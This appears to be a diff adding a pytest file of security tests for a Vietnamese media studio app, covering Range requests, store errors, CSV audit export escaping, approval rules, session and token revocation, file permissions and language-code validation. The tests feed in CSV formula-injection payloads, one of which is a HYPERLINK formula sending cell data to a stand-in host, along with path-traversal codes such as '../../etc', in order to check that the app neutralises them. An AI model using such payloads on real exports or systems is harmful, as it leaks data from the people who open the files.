@@ -1,0 +1,126 @@
+"""Security and integrity (issue 11, the parts done so far): Range past the end, store errors before the first
+byte, CSV formula injection, co-authors approving, sessions and tokens after a password change, private
+files, language codes of translation packages. Real SeaweedFS, espeak-ng and ffmpeg."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import stat
+
+import pytest
+from sqlalchemy import select
+
+from storage.models import Job, User
+from tests.conftest import new_work
+from tests.studio.test_api import auth, token_for
+from tests.studio.test_rendering import jobs_of, render
+
+
+def rendered_file(web, db_session) -> tuple[int, str]:
+    web.login("editor")
+    wid = new_work(web, body="Xã tổ chức tiêm chủng cho trẻ em.")
+    render(web, wid)
+    job = jobs_of(db_session, wid)[0]
+    assert job.state == "succeeded", job.error
+    return job.rendition_id, f"/renditions/{job.rendition_id}/0"
+
+
+def test_ranges_past_the_end_are_refused_and_store_errors_come_before_the_body(web, users, db_session, app):
+    _, url = rendered_file(web, db_session)
+    whole = web.get(url)
+    size = len(whole.data)
+    assert whole.status_code == 200 and size > 1000
+    part = web.get(url, headers={"Range": "bytes=10-19"})
+    assert part.status_code == 206 and part.data == whole.data[10:20]
+    beyond = web.get(url, headers={"Range": f"bytes={size + 10}-{size + 20}"})
+    assert beyond.status_code == 416 and beyond.headers["Content-Range"] == f"bytes */{size}" and not beyond.data
+    # The store stops answering: a proper error response, not a 200 with a truncated body.
+    from storage.objectstore import ObjectStore
+    real = app.extensions["objectstore"]
+    app.extensions["objectstore"] = ObjectStore.from_url("http://k:s@127.0.0.1:9/nothing", timeout=2)
+    try:
+        down = web.get(url, headers={"Accept": "application/json"})
+    finally:
+        app.extensions["objectstore"] = real
+    assert down.status_code == 503 and down.get_json()["error"]["message"]
+    assert "127.0.0.1:9" not in down.get_data(as_text=True)
+
+
+def test_audit_csv_cells_cannot_run_as_formulas(web, make_web, users):
+    attacker = make_web()
+    for name in ('=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1+1", "@SUM(A1)", "-2+3"):
+        attacker.login(name, "wrong password")
+    web.login("admin")
+    rows = list(csv.reader(io.StringIO(web.get("/admin/audit.csv").get_data(as_text=True))))
+    cells = [c for row in rows[1:] for c in row]
+    assert any(c.startswith("'=hyperlink") for c in cells)  # user names are stored in lower case
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
+    assert "'+1+1" in cells and "'@sum(a1)" in cells and "'-2+3" in cells
+
+
+def test_nobody_who_wrote_since_the_last_approval_approves(make_web, users, db_session):
+    a, b = make_web(), make_web()
+    a.login("editor")
+    b.login("chief")  # an editor who is also an approver
+    wid = new_work(a, body="Bản nháp đầu.")
+    version = lambda: db_session.get(__import__("storage.models", fromlist=["Work"]).Work, wid).version  # noqa: E731
+    db_session.expire_all()
+    assert b.post(f"/works/{wid}/edit", {"title": "Thông báo", "body": "B sửa.", "kind": "article",
+                                         "source_language": "vi", "priority": "normal",
+                                         "version": version()}).status_code == 302
+    db_session.expire_all()
+    assert a.post(f"/works/{wid}/edit", {"title": "Thông báo", "body": "A sửa lại.", "kind": "article",
+                                         "source_language": "vi", "priority": "normal",
+                                         "version": version()}).status_code == 302
+    assert a.post(f"/works/{wid}/transition", {"action": "submit"}).status_code == 302
+    refused = b.post(f"/works/{wid}/transition", {"action": "approve"})
+    assert refused.status_code == 403 and "từ lần duyệt trước" in refused.get_data(as_text=True)
+    other = make_web()
+    other.login("approver")
+    assert other.post(f"/works/{wid}/transition", {"action": "approve"}).status_code == 302
+
+
+def test_a_new_password_ends_sessions_and_tokens(web, make_web, users, app):
+    web.login("editor")
+    token = token_for(make_web(), "editor")
+    assert web.get("/works").status_code == 200
+    assert web.client.get("/api/v1/works", headers=auth(token)).status_code == 200
+    from studio.extensions import db
+    from studio.services import Caller, accounts
+    with app.app_context():
+        admin = db.session.get(User, users["admin"])
+        accounts.update_user(db.session, Caller(admin), users["editor"], password="a brand new password")
+        db.session.commit()
+    assert web.get("/works").status_code == 302  # back to the login page
+    assert web.client.get("/api/v1/works", headers=auth(token)).status_code == 401
+    again = make_web()
+    assert again.login("editor", "a brand new password").status_code == 302
+
+
+def test_revoke_all_tokens_in_one_action(web, make_web, users):
+    tokens = [token_for(make_web(), "editor") for _ in range(2)]
+    web.login("editor")
+    page = web.post("/account/tokens", {"revoke_all": "1"}).get_data(as_text=True)
+    assert "Đã thu hồi 2 mã truy cập." in page
+    assert all(web.client.get("/api/v1/works", headers=auth(t)).status_code == 401 for t in tokens)
+
+
+def test_database_and_instance_are_private(app):
+    instance = app.config["INSTANCE"]
+    db_file = app.config["SQLALCHEMY_DATABASE_URI"][len("sqlite:///"):]
+    assert stat.S_IMODE(os.stat(db_file).st_mode) == 0o600
+    assert stat.S_IMODE(os.stat(instance).st_mode) == 0o700
+
+
+@pytest.mark.parametrize("code", ["../../etc", "vi/..", "VI", "v", "vi_VN", "x" * 9, ""])
+def test_translation_packages_must_name_language_codes(tmp_path, code):
+    from media_pipeline.translate import argos
+    folder = tmp_path / "pkg"
+    folder.mkdir()
+    (folder / "metadata.json").write_text(json.dumps({"type": "translate", "from_code": code, "to_code": "en"}))
+    with pytest.raises(argos.PackageInvalid, match="language code"):
+        argos.read_metadata(folder)
+    (folder / "metadata.json").write_text(json.dumps({"type": "translate", "from_code": "zh-Hant", "to_code": "en"}))
+    assert argos.read_metadata(folder)["from_code"] == "zh-Hant"
